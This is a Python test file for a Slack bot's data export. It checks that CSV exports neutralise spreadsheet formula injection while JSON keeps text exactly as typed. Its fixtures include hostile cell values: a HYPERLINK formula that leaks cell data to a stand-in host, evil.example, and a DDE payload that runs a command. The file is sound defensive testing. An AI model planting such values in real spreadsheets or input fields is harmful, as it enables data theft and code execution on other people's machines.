"""Spreadsheet formula injection (issue 19, item 6): text people typed into Slack reaches the
CSV export neutralised (OWASP's rule), by the CLI and by the admin's button alike; the JSON
export keeps it exactly as typed. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from bot.domain.export import csv_bytes
from tests.conftest import ADMIN, RunningApp
from tests.flows import Person, enroll, eventually, setup_program

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
DEPARTMENTS = {
    "UFORM1": '=HYPERLINK("https://evil.example/?x="&C2,"Open")',
    "UFORM2": "+cmd|' /C calc'!A0",
    "UFORM3": "@SUM(1+1)",
    "UFORM4": "-2+3",
}
NAME_WITH_TAB = "\t=1+2 Tab Person"  # Slack's real name is not stripped on its way in
ROOT = Path(__file__).resolve().parents[1]


def _enroll_hostile_people(app: RunningApp) -> None:
    setup_program(app)
    for index, (user_id, department) in enumerate(DEPARTMENTS.items()):
        person = Person(user_id, "mentor" if index % 2 else "mentee", department=department)
        person.offered, person.wanted = ["ai_tools"], ["ai_tools"]
        person.add_to(app)
        if user_id == "UFORM1":
            app.fake.add_user(user_id, real_name=NAME_WITH_TAB, locale="en-US")
        response = enroll(app, person)
        assert response.status == 200 and "errors" not in response.body, response.body
    eventually(lambda: all(app.fake.home_of(u) for u in DEPARTMENTS), timeout=20)


def _tables(files: dict[str, bytes]) -> dict[str, list[list[str]]]:
    return {
        name: list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        for name, data in files.items()
    }


def _assert_neutralised(files: dict[str, bytes]) -> None:
    tables = _tables(files)
    assert "participants.csv" in tables and len(tables) == 7
    for name, rows in tables.items():
        for row in rows:
            for cell in row:
                assert not cell.startswith(TRIGGERS), (name, cell)
    header, *rows = tables["participants.csv"]
    people = [dict(zip(header, row, strict=True)) for row in rows]
    departments = {p["slack_user_id"]: p["department"] for p in people}
    # The text is still there to read, after the one quote that makes it text.
    assert departments == {user: "'" + text for user, text in DEPARTMENTS.items()}
    names = {p["slack_user_id"]: p["display_name"] for p in people}
    assert names["UFORM1"] == "'" + NAME_WITH_TAB


def _cli(app: RunningApp, tmp_path: Path, *args: str) -> bytes:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "DATABASE_"))}
    env |= {"DATABASE_URL": app.db.url, "PYTHONPATH": str(ROOT)}
    result = subprocess.run(
        [sys.executable, "-m", "bot", "export", *args],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_csv_export_neutralises_formulas_by_cli_and_button_and_json_keeps_them(
    running_app: RunningApp, tmp_path: Path
) -> None:
    app = running_app
    _enroll_hostile_people(app)

    _cli(app, tmp_path, "--format", "csv", "--output", str(tmp_path / "out"))
    from_cli = {p.name: p.read_bytes() for p in (tmp_path / "out").iterdir()}
    _assert_neutralised(from_cli)

    app.slack.block_action(ADMIN, "home_export", value="", view={"type": "home", "id": "V1"})
    uploads = eventually(lambda: len(app.fake.uploaded_files()) >= 6 and app.fake.uploaded_files())
    from_button = {f["name"]: bytes(f["bytes"]) for f in uploads}
    _assert_neutralised(from_button)
    assert from_button == from_cli

    document = json.loads(_cli(app, tmp_path, "--format", "json"))
    exported = {p["slack_user_id"]: p for p in document["participants"]}
    assert {u: exported[u]["department"] for u in DEPARTMENTS} == DEPARTMENTS
    assert exported["UFORM1"]["display_name"] == NAME_WITH_TAB


def test_only_text_is_neutralised_numbers_stay_numbers() -> None:
    rows = [{"text": "-2+3", "score": -3, "ratio": -0.5, "tags": ["=1", "b"], "plain": "Sales"}]
    data = csv_bytes(rows, ["text", "score", "ratio", "tags", "plain"])
    (_header, row) = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert row == ["'-2+3", "-3", "-0.5", "'=1; b", "Sales"]
